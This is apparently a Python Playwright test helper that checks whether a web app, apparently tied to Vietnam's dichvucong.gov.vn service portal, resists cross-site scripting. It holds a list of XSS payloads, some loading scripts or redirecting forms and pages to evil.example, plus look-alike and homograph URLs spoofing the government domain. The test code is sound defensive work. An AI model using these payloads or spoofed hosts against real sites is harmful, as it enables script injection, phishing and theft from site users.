"""Texts that would do harm where a page took them for HTML, a script or an address."""

from __future__ import annotations

from playwright.sync_api import BrowserContext, ConsoleMessage, Dialog, Page, Request

# An element that came of one of them has `data-xss`, a script that ran has set `window.__xss`,
# and whatever was fetched came from evil.example, which does not exist, or from a path "xss".
PAYLOADS = (
    "<script data-xss>window.__xss=1</script>",
    '"><script data-xss src="https://evil.example/a.js"></script>',
    '<img data-xss src="xss" onerror="window.__xss=1">',
    "<svg data-xss onload=window.__xss=1>",
    "<svg data-xss><animate onbegin=window.__xss=1 attributeName=x dur=1s></svg>",
    '<iframe data-xss srcdoc="<script>parent.__xss=1</script>"></iframe>',
    '<iframe data-xss src="javascript:parent.__xss=1">',
    '<a data-xss href="javascript:window.__xss=1">bấm vào đây</a>',
    '<a data-xss href="data:text/html,<script>opener.__xss=1</script>">xem kết quả</a>',
    "[xem](javascript:window.__xss=1) ![ảnh](https://evil.example/a.png)",
    "javascript:window.__xss=1 java\u200bscript:window.__xss=1 data:text/html,x",
    "</textarea><script data-xss>window.__xss=1</script>",
    "</title></script></style><script data-xss>window.__xss=1</script>",
    '" autofocus onfocus="window.__xss=1" data-xss="',
    "' onmouseover='window.__xss=1' data-xss='",
    "` onclick=window.__xss=1 data-xss=`",
    "<math data-xss><mtext><table><mglyph><style><img data-xss src=xss onerror=window.__xss=1>",
    '<noscript><p title="</noscript><img data-xss src=xss onerror=window.__xss=1>">',
    "<template data-xss><b></template><select data-xss><style></select><script>__xss=1</script>",
    '{{constructor.constructor("window.__xss=1")()}} ${window.__xss=1} <%= window.__xss=1 %>',
    "＜script＞window.__xss=1＜/script＞ \u202e<b data-xss>đảo chiều</b>",
    "&lt;img data-xss src=xss onerror=window.__xss=1&gt; &#60;b data-xss&#62;",
    "<details data-xss open ontoggle=window.__xss=1>thêm</details>",
    '<style data-xss>*{display:none}</style><link data-xss rel=stylesheet href="//evil.example/a">',
    '<base data-xss href="//evil.example/"><form data-xss action="//evil.example/">',
    '<meta data-xss http-equiv=refresh content="0;url=//evil.example/">--><!-- <b data-xss>',
)

# Hosts that look like the state's, and addresses that are none of a web page.
LOOK_ALIKES = (
    "https://dichvucong.gov.vn.evil.example/x",
    "dichvucong.gov.vn.evil.example",
    "https://evil.example/dichvucong.gov.vn",
    "https://evil.example#.gov.vn",
    "https://evil.example?.gov.vn",
    "https://evil.example\\.gov.vn/",
    "https://evil.example%2f.gov.vn/",
    "https://evil.example／.gov.vn/",
    "https://dichvucong.gov.vn%2eevil.example/",
    "https://dichvucong.gov.vn@evil.example/",
    "https://ten:mat@dichvucong.gov.vn/",
    "https://evilgov.vn/",
    "https://gov.vn.evil.example/",
    "https://dichvucong.gоv.vn/",  # a Cyrillic о
    "https://dichvucong.xn--gv-fmc.vn/",
    "http://dichvucong.gov.vn/",
    "https://dichvucong.gov.vn:8443/",
    "ftp://dichvucong.gov.vn/",
    "giadichvucong.gov.vn",
    "ten@dichvucong.gov.vn",
    "//evil.example/x",
    "javascript:alert(1)//dichvucong.gov.vn",
    "data:text/html,https",
    "tel:1900",
)

_LOOK = """() => {
  const roots = [document], found = [];
  for (const root of roots) {
    for (const element of root.querySelectorAll('*')) {
      if (element.shadowRoot) roots.push(element.shadowRoot);
      const acts = [...element.attributes].some(({ name, value }) =>
        /^(on|srcdoc$|data-xss$|xlink:)/i.test(name) ||
        (/^(href|src|action|formaction|data)$/i.test(name) && value !== 'data:,' &&
          !/^(https?:\\/\\/|\\/|#|\\?)/.test(value)));
      const foreign = element.matches(
        'img, iframe, object, embed, base, template, math, audio, video');
      if (acts || foreign) found.push(element.outerHTML.slice(0, 200));
    }
  }
  return [found, window.__xss];
}"""


class Guard:
    """Watches a browser while hostile texts are shown in it."""

    def __init__(self, context: BrowserContext, *origins: str) -> None:
        """`origins` are the servers that may be asked for anything at all."""
        self.harm: list[str] = []
        self._origins = origins
        context.on("dialog", self._dialog)
        context.on("request", self._request)
        context.on("console", self._console)

    def _dialog(self, dialog: Dialog) -> None:
        self.harm.append(f"dialog: {dialog.message}")
        dialog.dismiss()

    def _request(self, request: Request) -> None:
        ours = request.url.startswith((*(f"{origin}/" for origin in self._origins), "blob:"))
        if not ours or request.url.split("?")[0].endswith("xss"):
            self.harm.append(f"request: {request.url}")

    def _console(self, message: ConsoleMessage) -> None:
        # What the policy has refused was tried.
        if "Content Security Policy" in message.text:
            self.harm.append(f"console: {message.text}")

    def assert_unharmed(self, *pages: Page) -> None:
        """No page has an element of theirs, no script of theirs has run, nothing was loaded."""
        for page in pages:
            found, ran = page.evaluate(_LOOK)
            assert found == []
            assert ran is None
        assert self.harm == []
